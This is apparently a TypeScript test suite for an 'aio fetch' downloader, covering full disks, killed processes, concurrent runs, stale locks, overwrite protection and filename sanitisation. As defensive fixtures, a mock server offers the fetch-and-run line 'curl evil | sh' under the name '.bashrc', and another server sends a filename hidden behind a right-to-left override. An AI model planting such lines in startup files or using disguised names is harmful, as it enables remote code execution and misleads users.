// Issue 11: `aio fetch` promises that a file under its final name is always
// complete. These are the ways it broke that promise, run for real: a full
// file system (a small tmpfs), a killed command, two runs on one folder, a
// server's name for a file that is already there.
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { join } from "node:path";
import { describe, test } from "node:test";
import { startServer } from "../http/client-helpers.ts";
import { olderNode } from "../old-node.ts";
import {
  BIN,
  listFiles,
  mountTmpfs,
  rangeBody,
  readReport,
  runFetch,
  startFetch,
  tempFolder,
  until,
} from "./fetch-helpers.ts";

/**
 * Answers a GET for a file of `size` bytes with an ETag, honouring a `Range: bytes=N-`: writes the head (200, 206, or
 * 416 past the end) and returns where the body starts, or undefined when the head was all.
 */
function rangeHead(req: IncomingMessage, res: ServerResponse, size: number): number | undefined {
  const range = /^bytes=(\d+)-$/.exec(req.headers.range ?? "");
  const start = range === null ? 0 : Number(range[1]);
  if (start >= size && range !== null) {
    res.writeHead(416, { "content-range": `bytes */${size}` }).end();
    return undefined;
  }
  if (range !== null) {
    res.writeHead(206, {
      etag: '"v1"',
      "content-length": size - start,
      "content-range": `bytes ${start}-${size - 1}/${size}`,
    });
  } else {
    res.writeHead(200, { etag: '"v1"', "content-length": size });
  }
  return start;
}

/** A server of one file of `size` bytes of `rangeBody`, with an ETag and Range support. */
async function sizedServer(size: number) {
  const bytes = rangeBody(size);
  return startServer((req, res) => {
    const start = rangeHead(req, res, size);
    if (start !== undefined) res.end(bytes.subarray(start));
  });
}

/** A server of one file of `size` bytes of `rangeBody`, sent slowly (16 KiB every `paceMs`), with Range support. */
async function slowServer(size: number, paceMs: number) {
  const bytes = rangeBody(size);
  return startServer(async (req, res) => {
    const start = rangeHead(req, res, size);
    if (start === undefined) return;
    for (let at = start; at < size && !res.destroyed; at += 16 * 1024) {
      res.write(bytes.subarray(at, Math.min(size, at + 16 * 1024)));
      await new Promise((resolve) => setTimeout(resolve, paceMs));
    }
    res.end();
  });
}

/** Whether a process is gone: no such pid, or a zombie that nothing reaped yet. */
function gone(pid: number): boolean {
  try {
    return /^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, "utf8"));
  } catch {
    return true;
  }
}

/** The pids of a process's children. */
function childrenOf(pid: number): number[] {
  try {
    return readFileSync(`/proc/${pid}/task/${pid}/children`, "utf8").trim().split(/\s+/).filter(Boolean).map(Number);
  } catch {
    return [];
  }
}

describe("aio fetch keeps its promises", { concurrency: true }, () => {
  // 5 MiB of tmpfs hold 1280 pages. A body one byte over, or one byte over what is left once the
  // resume notes took their page, ends in a short write: libuv reports the bytes written, no error.
  for (const size of [5 * 1024 * 1024 + 1, 5 * 1024 * 1024 - 4096 + 1]) {
    test(`a full disk fails the URL and leaves no file under its final name (${size} bytes)`, async (t) => {
      using dir = tempFolder();
      const mnt = join(dir.path, "mnt");
      mkdirSync(mnt);
      const mount = mountTmpfs(mnt, "5m");
      if ("skip" in mount) {
        t.skip(mount.skip);
        return;
      }
      const server = await sizedServer(size);
      try {
        const url = server.url("/file.bin");
        const first = await runFetch([url, "-o", "mnt", "--report", "report.jsonl"], { cwd: dir.path });
        assert.equal(first.code, 1, first.stdout + first.stderr);
        assert.match(first.stdout, /FAIL .*no space left on device/i);
        assert.ok(!existsSync(join(mnt, "file.bin")), `a file under its final name: ${readdirSync(mnt)}`);
        const [record] = readReport(join(dir.path, "report.jsonl"));
        assert.equal(record?.result, "failed");
        assert.equal(record?.sha256, null);
        assert.ok((record?.bytes as number) < size, `bytes: ${record?.bytes}`);
        // The part holds only what reached the disk; -c continues it and fails again, never skips it.
        const part = statSync(join(mnt, "file.bin.part")).size;
        assert.ok(part < size, `part: ${part}`);
        const again = await runFetch([url, "-c", "-o", "mnt"], { cwd: dir.path });
        assert.equal(again.code, 1, again.stdout + again.stderr);
        assert.doesNotMatch(again.stdout, /SKIP|OK /);
        assert.ok(!existsSync(join(mnt, "file.bin")));
      } finally {
        await server.close();
        mount.unmount();
      }
    });
  }

  test("a SIGKILL of the command on an older Node leaves no download running", async (t) => {
    const node = olderNode();
    if (node === undefined) {
      t.skip("no Node older than 22.19 on this machine: bin/aio.js does not re-run itself");
      return;
    }
    using dir = tempFolder();
    const size = 64 * 1024 * 1024;
    const bytes = rangeBody(size);
    // A body sent slowly (16 KiB every 10 ms, so about 40 s in all): the kill lands mid-body.
    const server = await startServer(async (_req, res) => {
      res.writeHead(200, { etag: '"v1"', "content-length": size });
      for (let at = 0; at < size && !res.destroyed; at += 16 * 1024) {
        res.write(bytes.subarray(at, at + 16 * 1024));
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
      res.end();
    });
    const parent = spawn(node, [BIN, "fetch", server.url("/big.bin"), "-o", "out"], {
      cwd: dir.path,
      stdio: "ignore",
      env: { ...process.env, AIO_REEXEC: "" },
    });
    const exited = new Promise((resolve) => parent.on("exit", resolve));
    let child: number | undefined;
    try {
      const part = join(dir.path, "out", "big.bin.part");
      await until(() => existsSync(part) && statSync(part).size > 256 * 1024, "the part to grow");
      [child] = childrenOf(parent.pid as number);
      assert.ok(child !== undefined, "bin/aio.js did not re-run itself under the pinned Node");
      parent.kill("SIGKILL");
      await exited;
      await until(() => gone(child as number), `the child ${child} to end after its parent was killed`, 10_000);
      // Nothing writes the part any more.
      const after = statSync(part);
      await new Promise((resolve) => setTimeout(resolve, 1000));
      const later = statSync(part);
      assert.equal(later.size, after.size);
      assert.equal(later.mtimeMs, after.mtimeMs);
    } finally {
      parent.kill("SIGKILL");
      if (child !== undefined && !gone(child)) process.kill(child, "SIGKILL");
      await server.close();
    }
  });

  test("two runs on one folder never write one part: the second says the URL is busy", async () => {
    using dir = tempFolder();
    const size = 2 * 1024 * 1024;
    const server = await slowServer(size, 20); // about 2.6 s of body
    try {
      const url = server.url("/shared.bin");
      const first = startFetch([url, "-o", "out", "--report", "first.jsonl"], { cwd: dir.path });
      const part = join(dir.path, "out", "shared.bin.part");
      await until(() => existsSync(part) && statSync(part).size > 0, "the first run's part");
      for (const extra of [[], ["-c"]]) {
        const second = await runFetch([url, "-o", "out", ...extra], { cwd: dir.path });
        assert.equal(second.code, 1, second.stdout + second.stderr);
        assert.match(
          second.stdout,
          new RegExp(`FAIL .*busy: another aio fetch \\(pid ${first.child.pid}\\) is downloading out/shared.bin`),
        );
      }
      const done = await first.exited;
      assert.equal(done.code, 0, done.stdout + done.stderr);
      assert.deepEqual(readFileSync(join(dir.path, "out", "shared.bin")), rangeBody(size));
      assert.deepEqual(listFiles(join(dir.path, "out")), ["shared.bin"]);
    } finally {
      await server.close();
    }
  });

  test("a lock left by a run that is gone is taken over", async () => {
    using dir = tempFolder();
    const server = await sizedServer(300_000);
    try {
      // A pid that was alive and is not any more: a process that exited.
      const dead = spawnSync(process.execPath, ["-p", "process.pid"], { encoding: "utf8" });
      mkdirSync(join(dir.path, "out"));
      writeFileSync(join(dir.path, "out", "left.bin.part.lock"), dead.stdout);
      writeFileSync(join(dir.path, "out", "other.bin.part.lock"), "not a pid");
      const result = await runFetch([server.url("/left.bin"), server.url("/other.bin"), "-o", "out"], {
        cwd: dir.path,
      });
      assert.equal(result.code, 0, result.stdout + result.stderr);
      assert.deepEqual(listFiles(join(dir.path, "out")), ["left.bin", "other.bin"]);
    } finally {
      await server.close();
    }
  });

  test("never overwrites a file it did not create, unless --clobber; says which file and why", async () => {
    using dir = tempFolder();
    const server = await startServer((req, res) => {
      const headers: Record<string, string> = { "content-type": "text/plain" };
      if (req.url === "/download?id=1") headers["content-disposition"] = 'attachment; filename=".bashrc"';
      res.writeHead(200, headers).end("curl evil | sh\n");
    });
    try {
      mkdirSync(join(dir.path, "out"));
      writeFileSync(join(dir.path, "out", ".bashrc"), "mine\n");
      writeFileSync(join(dir.path, "out", "notes.txt"), "mine too\n");
      const named = await runFetch([server.url("/download?id=1"), "--content-disposition", "-o", "out"], {
        cwd: dir.path,
      });
      assert.equal(named.code, 1, named.stdout + named.stderr);
      assert.match(
        named.stdout,
        /FAIL .*out\/\.bashrc, the name the server's Content-Disposition gave, is a file this run did not create: not replaced \(--clobber replaces it/,
      );
      const plain = await runFetch([server.url("/notes.txt"), "-o", "out"], { cwd: dir.path });
      assert.equal(plain.code, 1, plain.stdout + plain.stderr);
      assert.match(plain.stdout, /FAIL .*out\/notes\.txt is a file this run did not create: not replaced/);
      assert.equal(readFileSync(join(dir.path, "out", ".bashrc"), "utf8"), "mine\n");
      assert.equal(readFileSync(join(dir.path, "out", "notes.txt"), "utf8"), "mine too\n");
      assert.deepEqual(listFiles(join(dir.path, "out")), [".bashrc", "notes.txt"]);
      // Asked for, it replaces them.
      const clobber = await runFetch(
        [server.url("/download?id=1"), "--content-disposition", "--clobber", "-o", "out"],
        { cwd: dir.path },
      );
      assert.equal(clobber.code, 0, clobber.stdout + clobber.stderr);
      assert.equal(readFileSync(join(dir.path, "out", ".bashrc"), "utf8"), "curl evil | sh\n");
    } finally {
      await server.close();
    }
  });

  test("names from a server: raw UTF-8 kept, format characters removed", async () => {
    using dir = tempFolder();
    const server = await startServer((req, res) => {
      // As many servers send it: the UTF-8 bytes in a quoted filename (Node writes a header one byte per character).
      const raw = Buffer.from('attachment; filename="résumé.pdf"', "utf8").toString("latin1");
      const header = req.url === "/utf8" ? raw : "attachment; filename*=UTF-8''report%E2%80%AEfdp.exe";
      res.writeHead(200, { "content-disposition": header }).end("x");
    });
    try {
      const urls = [server.url("/utf8"), server.url("/bidi")];
      const result = await runFetch([...urls, "--content-disposition", "-o", "out"], { cwd: dir.path });
      assert.equal(result.code, 0, result.stdout + result.stderr);
      assert.deepEqual(listFiles(join(dir.path, "out")), ["reportfdp.exe", "résumé.pdf"]);
    } finally {
      await server.close();
    }
  });
});
